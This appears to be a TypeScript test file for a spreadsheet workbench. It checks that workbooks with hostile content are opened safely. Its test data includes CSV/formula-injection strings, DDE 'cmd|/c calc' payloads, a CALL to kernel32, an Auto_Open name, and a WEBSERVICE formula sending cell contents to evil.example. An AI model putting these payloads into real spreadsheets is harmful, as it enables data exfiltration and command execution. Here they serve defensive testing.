/** Workbooks with hostile or broken content, opened as the workbench opens them and saved again. */

import { openWorkbook } from "../../src/workbench/openWorkbook";
import { followInputs, planWithInputs } from "../../src/workbench/followInputs";
import type { FileParts } from "../../src/hosts/opening/fileParts";
import { readWorkbook, type ReadWorkbook } from "../../src/hosts/xlsx/readXlsx";
import { planToXlsx } from "../../src/hosts/xlsx/writeXlsx";
import { INPUT_COLUMNS } from "../../src/workbook/inputColumns";
import { layoutOf } from "../../src/workbook/layout";
import type { CellPlan, SheetPlan } from "../../src/workbook/plan";
import { planOf, seededModel } from "../support/seededModel";
import { onlySheets } from "../workbook/recalculatedCells";
import { sheetPath, withCell, withParts, type PartChanges } from "./changedFile";
import { headlessGrid } from "./headlessGrid";

const model = seededModel();
const whole = planOf(model);
/** The sheets of the model that opening reads, which is all that these files need. */
const plan = onlySheets(whole, ["README", "Summary", "Inputs"]);
const style = Object.keys(plan.styles)[0]!;
const [created, version] = ["2026-11-22T00:00:00Z", "test"];

/** A sheet of the analyst's own with these cells in its first column. */
function ownSheet(name: string, cells: readonly CellPlan[]): SheetPlan {
  return {
    ...plan.sheets[0]!,
    name,
    columns: [{ width: 20 }],
    rows: cells.map((cell) => ({ cells: [cell] })),
    freeze: { rows: 0, columns: 0 },
    validations: [],
    conditionalFormats: [],
    notes: [],
    links: [],
    charts: [],
    print: { ...plan.sheets[0]!.print, footerRight: "", titleRows: null, titleColumns: null },
  };
}

/** A file of the model with further sheets. */
const fileWith = (...sheets: readonly SheetPlan[]): Promise<Uint8Array> =>
  planToXlsx({ ...plan, sheets: [...plan.sheets, ...sheets] });
/** First column of a sheet of the analyst's own that a file brought. */
const ownCells = ({ sheets }: FileParts, name: string): readonly CellPlan["value"][] =>
  sheets
    .find((sheet) => sheet.name === name)!
    .rows.map(({ cells: [cell] }) =>
      cell?.formula === undefined ? (cell?.value ?? null) : `=${cell.formula}`,
    );
const text = (value: string): CellPlan => ({ value, style });
const formula = (words: string, value: CellPlan["value"] = 0): CellPlan => ({ value, formula: words, style });

const TEXTS = [
  '=HYPERLINK("http://evil.example","click")',
  "=CMD|'/c calc'!A0",
  "=1+1",
  "+1+cmd",
  "-2+3",
  "@SUM(1)",
  "'=1+1",
  "''=1",
  "=",
  "\t=1",
  "|",
  "<script>alert(1)</script>",
  "&amp;",
  "]]>",
  "_x0041_",
  "a\u0001b\u0000",
  "\r\n",
  "١٢٣",
  "1e308",
  "TRUE",
  "2025-01-01",
  "\u202Egnp.exe",
];

/** The same workbook through the grid: opened, and saved again. */
async function throughGrid(
  bytes: Uint8Array,
): Promise<{ readonly saved: ReadWorkbook; readonly left: readonly string[] }> {
  const { inputs, parts, left } = await openWorkbook(model, bytes, plan);
  const { headlessHost, presentPlan, end } = headlessGrid();
  const { host, univer } = headlessHost(followInputs(model, created, version));
  host.open(whole, planWithInputs(model, inputs, created, version), parts);
  const saved = await readWorkbook(await planToXlsx((await presentPlan(model, host, created, version)).plan));
  end(univer);
  return { saved, left };
}

test("texts that look like formulas come back and are saved as texts; formulas stay formulas", async () => {
  const own = ownSheet("=1+cmd", [
    ...TEXTS.map(text),
    formula("SUM(1,2)", 3),
    formula("'Summary'!B2&\"[1]!\"", "x"),
  ]);
  const onModelSheet = (sheet: SheetPlan): SheetPlan => ({
    ...sheet,
    rows: [...sheet.rows, { cells: [] }, { cells: [text("=1+1")] }],
  });
  const sheets = plan.sheets.map((sheet) => (sheet.name === "Summary" ? onModelSheet(sheet) : sheet));
  const { saved, left } = await throughGrid(await planToXlsx({ ...plan, sheets: [...sheets, own] }));
  const sheet = saved.sheet("=1+cmd");
  expect(TEXTS.map((_, row) => sheet.cell(`A${row + 1}`))).toEqual(TEXTS.map((value) => ({ value })));
  expect([1, 2].map((more) => sheet.cell(`A${TEXTS.length + more}`).formula)).toEqual([
    "SUM(1,2)",
    "'Summary'!B2&\"[1]!\"",
  ]);
  expect(
    saved
      .sheet("Summary")
      .cell(
        `A${plan.sheets[0]!.name === "Summary" ? plan.sheets[0]!.rows.length + 2 : sheets.find(({ name }) => name === "Summary")!.rows.length}`,
      ),
  ).toEqual({ value: "=1+1" });
  expect(left).toEqual([]);
});

test("an own sheet with an apostrophe, an ampersand and Chinese in its name is printed with its titles, and days around the leap day that never was keep their numbers", async () => {
  const name = "Bob's R&D 金山云";
  const dateStyle = Object.entries(plan.styles).find(([, { numberFormat }]) =>
    numberFormat?.includes("yyyy"),
  )![0];
  const serials = [1, 59, 60, 61, 45_992.25];
  const own: SheetPlan = {
    ...ownSheet(name, [
      text("Days"),
      ...serials.map((value): CellPlan => ({ value, style: dateStyle })),
      formula("SUM('Bob''s R&D 金山云'!A2:A3)", 60),
    ]),
    print: {
      ...plan.sheets[0]!.print,
      area: "A1:A7",
      footerRight: "",
      titleRows: { from: 1, to: 1 },
      titleColumns: { from: "A", to: "A" },
    },
  };
  const file = await fileWith(own);
  const written = (await readWorkbook(file)).survey.names.find(
    ({ name: title, scope }) => title === "_xlnm.Print_Titles" && scope === name,
  );
  expect(written?.reference).toBe("'Bob''s R&D 金山云'!$A:$A,'Bob''s R&D 金山云'!$1:$1");
  const { saved, left } = await throughGrid(file);
  expect(left).toEqual([`${name}: rows and columns repeated on every printed page: 1:1, A:A.`]);
  const sheet = saved.sheet(name);
  expect(serials.map((_, row) => sheet.cell(`A${row + 2}`).value)).toEqual(serials);
  expect(sheet.cell("A7")).toEqual({ value: 60, formula: "SUM('Bob''s R&D 金山云'!A2:A3)" });
});

test("what asks outside the workbook is named and comes as its last value", async () => {
  const asking = [
    'WEBSERVICE("http://evil.example/?"&A1)',
    "_xlfn.WEBSERVICE(A1)",
    "cmd|'/c calc'!A0",
    "'C:\\folder\\[Other.xlsx]Sheet'!A1",
    "[1]Sheet1!A1",
    "'[1]My sheet'!$A$1+1",
    "[2]!Name",
    'RTD("x","","y")',
    "_xlfn.IMAGE(A1)",
    'IF(A1="[1]x!","a",CALL("kernel32"))',
  ];
  const harmless = [
    "Table1[[#This Row],[Cost]]",
    'HYPERLINK("#A1","down")',
    '"cmd|x!"&A1',
    "'a|b'!A1",
    "MYCALL(1)",
    "SUM(A1:A3)*1%",
    '"WEBSERVICE("&1',
  ];
  const own = ownSheet(
    "Mine",
    [...asking, ...harmless].map((words, row) => formula(words, row + 100)),
  );
  const { parts, left } = await openWorkbook(model, await fileWith(own), plan);
  const mine = ownCells(parts, "Mine");
  expect(mine.slice(0, asking.length)).toEqual(asking.map((_, row) => row + 100));
  expect(mine.slice(asking.length)).toEqual(harmless.map((words) => `=${words}`));
  expect(left).toEqual([
    "Formulas that ask outside the workbook come as their last values: Mine!A1 (WEBSERVICE), Mine!A2 (WEBSERVICE), Mine!A3 (DDE), Mine!A4 (another workbook), Mine!A5 (another workbook) and 5 more.",
  ]);
});

test("macros, links and names of one's own are left out, and that is said", async () => {
  const bytes = withParts(await fileWith(), {
    "xl/vbaProject.bin": "MZ",
    "xl/externalLinks/externalLink1.xml": "<externalLink/>",
    "xl/workbook.xml": (xml) =>
      xml.replace(
        "<definedNames>",
        '<definedNames><definedName name="Auto_Open">Evil!$A$1</definedName><definedName name="_xlnm.Evil">#REF!</definedName>',
      ),
  });
  const { left } = await openWorkbook(model, bytes, plan);
  expect(left).toEqual([
    "Its macros do not run here and are left out.",
    "Its links to other workbooks are left out.",
    "Names of your own that stand for no range of the whole workbook: Auto_Open.",
  ]);
});

test("formulas that Excel writes once for several cells come back in each", async () => {
  const own = ownSheet("Mine", [formula("A9*2", 2), formula("A10*2", 4), formula("A11*2", 6)]);
  const bytes = await fileWith(own);
  const shared = withParts(bytes, {
    [`xl/worksheets/sheet${plan.sheets.length + 1}.xml`]: (xml) => {
      const master = withCell(
        "A1",
        '<c r="A1"><f t="shared" ref="A1:A3" si="0">SUM(B$1:$C9,"A9",D:D,\'A9 x\'!A9,LOG10(1))+A9</f><v>2</v></c>',
      )(xml);
      return withCell(
        "A3",
        '<c r="A3"><f t="shared" si="0"/><v>6</v></c>',
      )(withCell("A2", '<c r="A2"><f t="shared" si="0"/><v>4</v></c>')(master));
    },
  });
  const { parts } = await openWorkbook(model, shared, plan);
  expect(ownCells(parts, "Mine")).toEqual(
    [9, 10, 11].map((row) => `=SUM(B$1:$C${row},"A9",D:D,'A9 x'!A${row},LOG10(1))+A${row}`),
  );
});

describe("a broken or hostile model workbook is refused in words", () => {
  let bytes: Uint8Array;
  let inputs: string;
  const line = layoutOf(model).inputs.driver.get("taxRate")!;
  const base = `${String.fromCharCode(64 + INPUT_COLUMNS.firstScenario + 1)}${line}`;
  const input = (xml: string): PartChanges => ({ [inputs]: withCell(base, xml) });
  beforeAll(async () => {
    bytes = await planToXlsx(plan);
    inputs = sheetPath(bytes, "Inputs");
  });

  test.each<[string, () => PartChanges, RegExp]>([
    [
      "a text in an input",
      () => input(`<c r="${base}" t="inlineStr"><is><t>much</t></is></c>`),
      /^Inputs!\w+ holds much, which the model can't calculate with\. Put a number there/,
    ],
    [
      "a text that names the Base cell",
      () => input(`<c r="${base}" t="inlineStr"><is><t>=${base}</t></is></c>`),
      /^Inputs!\w+ holds =/,
    ],
    ["nothing in an input", () => input(`<c r="${base}"/>`), /^Inputs!\w+ holds nothing/],
    ["a truth value in an input", () => input(`<c r="${base}" t="b"><v>1</v></c>`), /^Inputs!\w+ holds true/],
    [
      "an error in an input",
      () => input(`<c r="${base}" t="e"><v>#DIV/0!</v></c>`),
      /^Inputs!\w+ holds #DIV\/0!/,
    ],
    [
      "a date in an input",
      () => input(`<c r="${base}" t="d"><v>2026-01-01T00:00:00Z</v></c>`),
      /^Inputs!\w+ holds 2026-01-01/,
    ],
    [
      "a day's number in an input",
      () => input(`<c r="${base}"><v>46023</v></c>`),
      /^An input of the scenario \w+ is not allowed: taxRate .*must lie between/,
    ],
    [
      "1e308 in an input",
      () => input(`<c r="${base}"><v>1e308</v></c>`),
      /^An input of the scenario \w+ is not allowed: taxRate .*must lie between/,
    ],
    [
      "1e999 in an input",
      () => input(`<c r="${base}"><v>1e999</v></c>`),
      /^Inputs!\w+ holds |is not allowed: taxRate/,
    ],
    [
      "a number outside the range",
      () => input(`<c r="${base}"><v>-0.5</v></c>`),
      /^An input of the scenario \w+ is not allowed: taxRate \(.*\) is -50 %; it must lie between/,
    ],
    [
      "a million letters in an input",
      () => input(`<c r="${base}" t="inlineStr"><is><t>${"x".repeat(1e6)}</t></is></c>`),
      /^Inputs!\w+ holds x{10,60}…/,
    ],
    [
      "a workbook of something else",
      () => ({ "xl/sharedStrings.xml": (xml) => xml.replaceAll(/<t[^>]*>[^<]*<\/t>/g, "<t>x</t>") }),
      /^This workbook holds no KC model/,
    ],
    [
      "two sheets of one name",
      () => ({ "xl/workbook.xml": (xml) => xml.replace('name="README"', 'name="INPUTS"') }),
      /sheet called "inputs", a name that stands there twice/i,
    ],
    [
      "a sheet name that no program saves",
      () => ({ "xl/workbook.xml": (xml) => xml.replace('name="README"', 'name="a/b[1]"') }),
      /sheet called "a\/b\[1\]", a name that must not hold/,
    ],
    [
      "a sheet name of a thousand letters",
      () => ({ "xl/workbook.xml": (xml) => xml.replace('name="README"', `name="${"n".repeat(1000)}"`) }),
      /must have 1 to 31 characters/,
    ],
    [
      "a driver listed twice",
      () => ({
        [inputs]: withCell(
          `${String.fromCharCode(64 + INPUT_COLUMNS.driver)}${line + 1}`,
          `<c r="${String.fromCharCode(64 + INPUT_COLUMNS.driver)}${line + 1}" t="inlineStr"><is><t>taxRate</t></is></c>`,
        ),
      }),
      /^Inputs lists the driver taxRate twice, in rows \d+ and \d+/,
    ],
    [
      "another scenario in the selector",
      () => ({
        [sheetPath(bytes, "Summary")]: (xml) =>
          xml.replace(/(<c r="(?:C4|B2|C2|B4)"[^>]*?)(?: t="s")?([^>]*)><v>\d+<\/v>/, "$1$2><v>7</v>"),
      }),
      /^Summary!\w+ holds 7/,
    ],
    [
      "a cell far below",
      () => ({
        [sheetPath(bytes, "README")]: (xml) =>
          xml.replace("</sheetData>", '<row r="160000"><c r="A160000"><v>1</v></c></row></sheetData>'),
      }),
      /^The sheet README has a cell at A160000; the workbench shows 100,000 rows/,
    ],
    [
      "a text longer than a cell",
      () => ({
        [sheetPath(bytes, "README")]: (xml) =>
          xml.replace(
            "</sheetData>",
            `<row r="900"><c r="A900" t="inlineStr"><is><t>${"x".repeat(32_768)}</t></is></c></row></sheetData>`,
          ),
      }),
      /^The sheet README has a text of 32,768 characters in A900/,
    ],
  ])("%s", async (_, changes, message) => {
    const opening = openWorkbook(model, withParts(bytes, changes()), plan);
    await expect(opening).rejects.toThrow(message);
    await opening.catch((error: Error) => {
      expect(error.message.length).toBeLessThan(600);
      expect(error.message).toMatch(/[.!]$/);
    });
  });
});
